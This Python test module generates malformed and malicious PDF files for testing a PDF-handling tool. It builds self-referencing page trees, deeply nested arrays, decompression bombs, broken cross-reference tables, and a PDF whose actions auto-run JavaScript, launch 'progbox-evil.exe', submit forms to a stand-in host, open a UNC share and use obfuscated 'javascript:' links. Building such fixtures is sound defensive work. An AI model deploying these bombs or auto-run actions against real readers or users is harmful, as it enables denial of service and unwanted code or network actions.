"""Broken and malicious PDF files, made for the tests."""

import zlib

from pikepdf import Array, Dictionary, Name, NameTree, Stream, StreamDecodeLevel, String

from .pdf_collection import changed, plain

SCRIPT = "app.alert('progbox-evil')"


def raw(path, objects):
    """A PDF from the text of its objects, {number: text}; the first is the root."""
    content, offsets = bytearray(b"%PDF-1.7\n"), {}
    for number, text in objects.items():
        offsets[number] = len(content)
        content += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    start, size = len(content), max(objects) + 1
    content += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        content += b"%010d 00000 n \n" % offsets[number]
    content += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % size
    content += b"startxref\n%d\n%%%%EOF\n" % start
    path.write_bytes(content)
    return path


def stream(content, entries=b""):
    """An object for `raw` that holds bytes."""
    head = b"<< /Length %d %b >>\nstream\n" % (len(content), entries)
    return head + content + b"\nendstream"


def page_loop(path, drawing=b""):
    """A page tree that contains itself."""
    return raw(
        path,
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Count 2 /Kids [3 0 R 2 0 R] >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100]"
            b" /Contents 4 0 R >>",
            4: stream(drawing),
        },
    )


def reference_loop(path):
    """A page whose resources, annotations and length refer to one another."""
    return raw(
        path,
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>",
            2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100]"
            b" /Resources 4 0 R /Annots 5 0 R >>",
            4: b"<< /XObject << /A 4 0 R >> /Font << /F 5 0 R >> >>",
            5: b"[ 5 0 R 4 0 R << /Type /Annot /Subtype /Text /Popup 5 0 R >> ]",
            6: b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
            7: b"<< /Title (loop) /Parent 6 0 R /Next 7 0 R /First 7 0 R >>",
        },
    )


def without_pages(path):
    return raw(
        path,
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Count 0 /Kids [] >>",
        },
    )


def deep_arrays(path, depth=100_000):
    """Brackets in brackets, until a parser's stack ends."""
    return raw(
        path,
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100]"
            b" /Resources 4 0 R >>",
            4: b"[" * depth + b"]" * depth,
        },
    )


def slow(path, objects=150_000):
    """So many objects that reading them takes seconds."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return raw(
        path,
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            3: page,
            **{number: b"[ %s ]" % (b"0 " * 40) for number in range(4, objects)},
        },
    )


def crowd(path, count, *texts):
    """A page with so many annotations; from 10,000 on, Poppler cannot load it."""

    with changed(path, *(texts or ("crowd",))) as pdf:
        pdf.pages[0].Annots = Array(
            pdf.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9])
            )
            for _number in range(count)
        )
    return path


def broken_xref(path, *texts):
    """Every object is somewhere else than the table says."""
    content = plain(path, *texts).read_bytes()
    path.write_bytes(content.replace(b"%PDF-1.", b"%PDF-1.3\n%moved\n%", 1))
    return path


def without_table(path, *texts):
    """The table and the trailer's end are gone; all objects are there."""
    content = plain(path, *texts).read_bytes()
    path.write_bytes(content[: content.rindex(b"startxref")])
    return path


def bomb(path, folds=1, size=400 << 20, letters=None):
    """A page of a few bytes that unfolds into gigabytes.

    :param letters: what writes bytes as letters, and its name
    """
    packer = zlib.compressobj(9)
    block = b" " * (1 << 20)
    content = b"".join(packer.compress(block) for _ in range(size >> 20))
    content += packer.flush()
    for _fold in range(folds - 1):
        content = zlib.compress(content, 9)
    filters = [Name.FlateDecode] * folds
    if letters:
        encode, name = letters
        content, filters = encode(content), [name, *filters]
    as_it_is = {
        "compress_streams": False,
        "stream_decode_level": StreamDecodeLevel.none,
    }
    with changed(path, "Bomb", **as_it_is) as pdf:
        pdf.pages[0].Contents = Stream(pdf, content, Filter=filters)
    return path


def run_length_bomb(path, size=300 << 20):
    """The same, of runs of up to 128 times the same byte."""
    with changed(path, "Bomb") as pdf:
        content = b"\x81 " * (size >> 7) + b"\x80"
        pdf.pages[0].Contents = Stream(pdf, content, Filter=Name.RunLengthDecode)
    return path


def scripted(path, text):
    """Acts by itself in every way there is."""
    script = Dictionary(S=Name.JavaScript, JS=String(SCRIPT))
    with changed(path, text) as pdf:
        launch = Dictionary(S=Name.Launch, F=String("progbox-evil.exe"))
        submit = Dictionary(S=Name.SubmitForm, F=String("http://progbox-evil.test"))
        remote = Dictionary(S=Name.GoToR, F=String("\\\\progbox-evil\\share"))
        addresses = [
            Dictionary(S=Name.URI, URI=String(text + SCRIPT))
            for text in (
                "javascript:", "\x01javascript:", "java\nscript:", "javascript\t:",
                "javascript:\u0416", "file:", "\\\\progbox-evil\\", "//progbox-evil/",
            )
        ]  # fmt: skip
        chained = Dictionary(S=Name.URI, URI=String("https://x.test"), Next=script)
        harmless = Dictionary(S=Name.URI, URI=String("https://example.com/"))
        pdf.Root.OpenAction = script
        pdf.Root.AA = Dictionary(WC=script)
        tree = NameTree.new(pdf)
        tree["progbox-evil"] = pdf.make_indirect(script)
        pdf.Root.Names = Dictionary(JavaScript=tree.obj)
        page = pdf.pages[0]
        page.obj.AA = Dictionary(O=pdf.make_indirect(script))
        links = [
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
            for action in (launch, submit, remote, *addresses, chained, harmless)
        ]
        links[0].AA = Dictionary(E=script)
        links.append(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.RichMedia,
                Rect=[0, 0, 9, 9],
                RichMediaContent=Dictionary(Evil=String("progbox-evil")),
            )
        )
        button = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Btn,
                Ff=65536,
                T=String("button"),
                Rect=[0, 0, 9, 9],
                A=script,
            )
        )
        page.Annots = Array([*links, button])
        pdf.Root.AcroForm = Dictionary(Fields=[button])
    return path
